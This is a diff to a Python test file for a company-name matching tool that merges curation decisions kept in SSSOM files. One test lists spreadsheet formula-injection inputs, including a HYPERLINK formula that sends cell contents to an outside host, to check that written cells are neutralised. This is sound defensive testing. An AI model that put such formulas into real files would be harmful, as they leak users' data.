@@ -13,15 +13,16 @@ import pyoxigraph as ox
 import pytest
 
 import registers
-from clusterkg import snapshot, source, sssom
-from clusterkg.errors import ClusterkgError, UsageError
-from clusterkg.matching import draft, judge, proposal, subject, table
+from clusterkg import source, sssom
+from clusterkg.errors import RefusedError, UnreadableError, UsageError
+from clusterkg.importing import decisions
+from clusterkg.importing.decisions import Order
+from clusterkg.matching import decision, draft, judge, proposal, subject, table
 from clusterkg.matching.glance import Glance
 from clusterkg.matching.name import Name
 from clusterkg.matching.proposal import Candidate, Ground
 from clusterkg.matching.sweep import Sweep
 from clusterkg.matching.vocabulary import terms
-from clusterkg.written import Trial
 
 COLUMN = "企业名称"
 
@@ -190,7 +191,7 @@ def test_each_name_is_read_once_with_its_first_row(tmp_path: Path) -> None:
     found = table.read(path, table.Columns(COLUMN, "代码", "地区"))
     assert [(one.name, one.code, one.address) for one in found.lines] == [
         ("甲", "", "list.csv!2"), ("乙", "1", "list.csv!4"), ("乙", "", "list.csv!6")]
-    assert found.empty + found.refused == 1
+    assert (found.read, found.named, found.empty, found.refused) == (5, 4, 1, 0)
 
 
 @pytest.mark.parametrize("columns", [table.Columns("不在"), table.Columns(""),
@@ -247,25 +248,22 @@ def dumped(folder: Path) -> set[str]:
 def test_a_list_is_matched_decided_applied_and_taken_back(tmp_path: Path) -> None:
     folder, review = tmp_path / "snapshot", tmp_path / "review.sssom.tsv"
     shutil.copytree(registers.folder(), folder)
-    path = listed(tmp_path, [("宗申动力", "", ""), ("三角***份限公司", "", ""),
+    path = listed(tmp_path, [("宗申动力", "", ""), ("三角***份限公司", "", ""), ("", "", ""),
                              ("重庆宗申航空发动机制造有限公司", "", "")])
     asked = [str(path), "--column", COLUMN, "--snapshot", str(folder)]
     code, _, told = run(*asked, "-o", str(review))
     assert (code, "3 names" in told, "1 masked" in told) == (0, True, True)
+    assert "read 4 = named 3 + empty 1 + refused 0" in told
     before = dumped(folder)
-
-    with pytest.raises(UsageError, match="nothing is decided"):
-        draft.changes(review, "me", "")
 
     decided(review, {"宗申动力 ent:x-power": ("skos:exactMatch", ""),
                      "重庆宗申航空发动机制造有限公司 ent:x-aero": ("skos:exactMatch", "Not")})
     code, told, error = run("--apply", str(review), "--snapshot", str(folder), "--author", "me")
     assert code == 0, error
+    assert "0 kept, 2 new, 0 changed (1 the same, 1 not); decided by me" in told
     after = dumped(folder)
     assert after > before
-    kept = (folder / "written" / "review.sssom.tsv").read_bytes()
-    assert draft.decided(review, "me") == {"review.sssom": kept}
-    assert b"ManualMappingCuration" in kept
+    assert b"ManualMappingCuration" in (folder / "written" / "review.sssom.tsv").read_bytes()
 
     code, out, told = run(*asked)  # what was decided is not proposed again
     assert code == 0
@@ -274,23 +272,144 @@ def test_a_list_is_matched_decided_applied_and_taken_back(tmp_path: Path) -> Non
                                  if line.startswith("ent:") and "宗申动力" in line.split("\t")[1]]
     assert not [line for line in out.splitlines() if "航空" in line and "ent:x-aero" in line]
 
-    code, told, error = run("--withdraw", "review.sssom.tsv", "--snapshot", str(folder))
+    code, told, error = run("--undo", "review.sssom.tsv", "--snapshot", str(folder))
     assert code == 0, error
     assert dumped(folder) ^ before == set()
 
 
-def test_a_contradiction_leaves_what_was_there(tmp_path: Path) -> None:
-    folder, review = tmp_path / "snapshot", tmp_path / "bad.sssom.tsv"
-    shutil.copytree(registers.folder(), folder)
-    head = "subject_id\tpredicate_id\tobject_id\tmapping_justification\tauthor_label\n"
-    review.write_text(head + "".join(
-        f"ent:x-a\tskos:exactMatch\tent:x-{other}\tsemapv:x\tme\n" for other in ("power", "aero")))
-    writes = draft.changes(review, "me", "")
-    inputs = snapshot.Inputs.of(folder)
-    assert inputs is not None
-    with pytest.raises(ClusterkgError, match=r"bad\.sssom\.tsv:3: "):
-        snapshot.build(inputs, folder, trial=Trial(writes))
-    assert list((folder / "written").iterdir()) == []
+HEAD = ("#author_label: me\nsubject_id\tpredicate_id\tpredicate_modifier\tobject_id\t"
+        "mapping_justification\n")
+
+
+def row(subject_: str, object_: str, modifier: str = "", predicate: str = "skos:exactMatch",
+        why: str = "semapv:ManualMappingCuration") -> str:
+    return f"{subject_}\t{predicate}\t{modifier}\t{object_}\t{why}\n"
+
+
+def sheet(path: Path, *rows: str, head: str = HEAD) -> sssom.Sheet:
+    path.write_text(head + "".join(rows), encoding="utf-8")
+    return decision.read(path)
+
+
+def said(merged: decision.Merged) -> list[tuple[str, str, str, str]]:
+    return [(each["subject_id"], each["predicate_id"], each["predicate_modifier"],
+             each["object_id"]) for _, each in merged.sheet.rows]
+
+
+def test_rounds_of_decisions_add_up(tmp_path: Path) -> None:
+    first = sheet(tmp_path / "d.sssom.tsv", row("ent:a", "ent:b"), row("ent:c", "ent:d", "Not"),
+                  row("ent:e", "ent:f", predicate="skos:broadMatch"),
+                  row("ent:g", "ent:h", predicate="skos:closeMatch", why="semapv:LexicalMatching"))
+    (tmp_path / "more").mkdir()
+    second = sheet(tmp_path / "more/d.sssom.tsv", row("ent:a", "ent:b"), row("ent:g", "ent:h"),
+                   row("ent:d", "ent:c", "Not"), row("ent:i", "ent:j", "Not"))
+    before = decision.merge(first)
+    assert (before.kept, before.new, before.changed) == (0, 2, 0)
+    both = decision.merge(second, before.sheet)
+    assert (both.kept, both.new, both.changed) == (2, 2, 0)
+    assert said(both) == [
+        ("ent:a", "skos:exactMatch", "", "ent:b"), ("ent:c", "skos:exactMatch", "Not", "ent:d"),
+        ("ent:e", "skos:broadMatch", "", "ent:f"), ("ent:g", "skos:exactMatch", "", "ent:h"),
+        ("ent:i", "skos:exactMatch", "Not", "ent:j")]
+    for more in (first, second):
+        again = decision.merge(more, both.sheet)
+        assert (again.new, again.changed, again.sheet.rows) == (0, 0, both.sheet.rows)
+
+
+@pytest.mark.parametrize("other", [row("ent:a", "ent:b", "Not"), row("ent:b", "ent:a"),
+                                   row("ent:b", "ent:a", "Not")])
+def test_who_contradicts_is_told_both_lines_and_asked(other: str, tmp_path: Path) -> None:
+    before = decision.merge(sheet(tmp_path / "old.sssom.tsv", row("ent:x", "ent:y"),
+                                  row("ent:a", "ent:b"))).sheet
+    given = sheet(tmp_path / "new.sssom.tsv", row("ent:p", "ent:q"), other)
+    with pytest.raises(UnreadableError, match=r"new\.sssom\.tsv:4: .*old\.sssom\.tsv:2 says"):
+        decision.merge(given, before)
+    merged = decision.merge(given, before, prefer=True)
+    assert (merged.kept, merged.new, merged.changed) == (1, 1, 1)
+    assert tuple(other.split("\t")[n] for n in (0, 1, 2, 3)) in said(merged)
+    assert ("ent:a", "skos:exactMatch", "", "ent:b") not in said(merged)
+
+
+def test_a_decision_needs_one_and_somebody(tmp_path: Path) -> None:
+    path = tmp_path / "d.sssom.tsv"
+    path.write_text(HEAD.replace("#author_label: me\n", "") + row("ent:a", "ent:b"))
+    with pytest.raises(UnreadableError, match=r"nobody vouches.*--author"):
+        decision.read(path)
+    assert [one["author_label"] for _, one in decision.read(path, "she").rows] == ["she"]
+    with pytest.raises(UsageError, match="nothing is decided"):
+        sheet(path, row("ent:a", "ent:b", predicate="skos:closeMatch"))
+
+
+def test_one_file_does_not_contradict_itself(tmp_path: Path) -> None:
+    given = sheet(tmp_path / "d.sssom.tsv", row("ent:a", "ent:b"), row("ent:a", "ent:b", "Not"))
+    for prefer in (False, True):
+        with pytest.raises(UnreadableError, match=r"tsv:4: .*d\.sssom\.tsv:3 says otherwise"):
+            decision.merge(given, prefer=prefer)
+
+
+def test_one_prefix_may_mean_two_things(tmp_path: Path) -> None:
+    heads = [f"#curie_map:\n#  ex: https://{host}.example/\n{HEAD}" for host in ("one", "two")]
+    first, second = (sheet(tmp_path / f"{n}.sssom.tsv", row("ex:a", "ex:b"), head=head)
+                     for n, head in enumerate(heads))
+    merged = decision.merge(second, decision.merge(first).sheet)
+    assert {(one.subject, one.object) for one in merged.sheet.decisions()} == {
+        (f"https://{host}.example/a", f"https://{host}.example/b") for host in ("one", "two")}
+
+
+def test_who_vouches_for_a_file_vouches_for_its_rows_alone(tmp_path: Path) -> None:
+    first = sheet(tmp_path / "a.sssom.tsv", row("ent:a", "ent:b"),
+                  head=HEAD.replace("#author_label: me", "#author_id:\n#- ent:who\n#- ent:she"))
+    merged = decision.merge(sheet(tmp_path / "b.sssom.tsv", row("ent:c", "ent:d")),
+                            decision.merge(first).sheet)
+    assert [(each.get("author_id", ""), each.get("author_label", ""))
+            for _, each in merged.sheet.rows] == [("ent:who|ent:she", ""), ("", "me")]
+    assert "decided by ent:who|ent:she, me" in str(merged)
+
+
+@pytest.mark.parametrize(("subject_", "object_", "what"), [
+    ("ent:x-power", registers.firms()[0].iri, "codes: 915001130000000019"),
+    ("ent:x-aero", "place:cn-500113", "classes")])
+def test_what_cannot_be_one_is_refused(subject_: str, object_: str, what: str,
+                                       tmp_path: Path) -> None:
+    path = tmp_path / "bad.sssom.tsv"
+    path.write_text(HEAD + row(subject_, object_), encoding="utf-8")
+    with pytest.raises(RefusedError, match=rf"bad\.sssom\.tsv:3: .*{what}"):
+        decisions.apply(Order(), path, registers.folder())
+    assert not list((registers.folder() / "written").glob("*"))
+
+
+@pytest.mark.parametrize("text", [
+    '=HYPERLINK("http://x/?"&A1)', "@SUM(1)", "+1", "-2+3", "'=1", "''@x", "'quoted'", "plain",
+    "＝1+1", "a=b"])
+def test_no_name_runs_in_a_spreadsheet(text: str, tmp_path: Path) -> None:
+    path = tmp_path / "d.sssom.tsv"
+    columns = ["subject_id", "subject_label", "predicate_id", "object_id", "mapping_justification"]
+    rows = [(1, {"subject_id": "ent:a", "subject_label": text, "predicate_id": "skos:closeMatch",
+                 "object_id": "ent:b", "mapping_justification": "semapv:x", "comment": ""})]
+    path.write_text(sssom.write(sssom.Sheet(path, {}, columns, rows)), encoding="utf-8")
+    cells = path.read_text(encoding="utf-8").splitlines()[1].split("\t")
+    assert all(cell[:1] not in {*"=+-@＝＋－＠"} for cell in cells)
+    assert sssom.read(path).rows[0][1]["subject_label"] == text
+
+
+def test_a_file_may_be_saved_by_a_spreadsheet(tmp_path: Path) -> None:
+    path = tmp_path / "d.sssom.tsv"
+    path.write_text('"#comment: ""a: b"""\t\t\t\t\n#author_label: me\t\t\t\t\n'
+                    "subject_id\tsubject_label\tpredicate_id\tobject_id\tmapping_justification\t\n"
+                    'ent:a\t"The ""A"" Works"\tskos:exactMatch\tent:b\tsemapv:x\t\n',
+                    encoding="utf-8")
+    found = sssom.read(path)
+    assert found.about == {"comment": "a: b", "author_label": "me"}
+    assert [one.label for one in found.decisions()] == ['The "A" Works']
+
+
+def test_rows_that_cannot_be_read_are_told(tmp_path: Path) -> None:
+    path = tmp_path / "list.csv"
+    path.write_text(f"{COLUMN},b\n宗申动力,1\n,2\n甲,2,3\n宗申动力,4\n", encoding="utf-8")
+    code, _, told = run(str(path), "--column", COLUMN, "--snapshot", str(registers.folder()))
+    assert code == 1
+    assert "read 4 = named 2 + empty 1 + refused 1" in told
+    assert "list.csv!4: " in told
 
 
 def test_without_a_table_it_says_how(tmp_path: Path) -> None:
